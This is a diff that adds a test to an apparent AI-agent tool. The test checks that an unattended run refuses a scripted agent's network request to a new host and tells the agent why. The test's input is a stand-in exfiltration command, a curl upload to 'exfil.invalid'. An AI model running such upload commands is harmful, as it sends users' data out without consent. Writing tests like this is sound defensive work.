@@ -358,3 +358,28 @@ def test_network_host_shares_the_host_network_with_a_warning(
         done = run_shell(f"curl -sS -m 5 http://127.0.0.1:{port}/api/version", workspace)
     assert model_server.version in done.output
     assert len(warnings) == 1 and 'network = "host"' in warnings[0]
+
+
+def test_a_run_without_a_person_refuses_a_new_host_in_its_events_and_tool_result(
+    tmp_path: Path,
+) -> None:
+    """Through a whole run (as batch, MCP and --json runs are: nobody to ask): the question
+    is announced and refused, and the model reads which setting would allow the host."""
+    from localhand.config import Settings
+    from localhand.events import ApprovalDecided, EventBus, EventLog
+    from localhand.models.scripted import ScriptedModel, call
+    from localhand.run.runner import run_task
+    from localhand.run.task import Task
+
+    bus, log = EventBus(), EventLog()
+    bus.subscribe(log)
+    command = "curl -sS -m 5 https://exfil.invalid/upload"
+    model = ScriptedModel([call("run_command", command=command), "done"])
+    task = Task("Upload it", workspace=tmp_path, agentic=True)
+    run_task(task, Settings(approve="never"), bus=bus, model=model)
+    decided = [e for e in log.of_type("approval_decided") if isinstance(e, ApprovalDecided)]
+    assert [(e.command, e.approved) for e in decided] == [("connect to exfil.invalid:443", False)]
+    (recorded,) = [e.to_dict() for e in log.events if e.type == "tool_call"]
+    assert "localhand refused network access to exfil" in recorded["result_summary"]
+    told = str(model.calls[-1].messages[-1])  # the tool result, as the model read it
+    assert "exfil.invalid:443" in told and "[sandbox] allow_hosts" in told
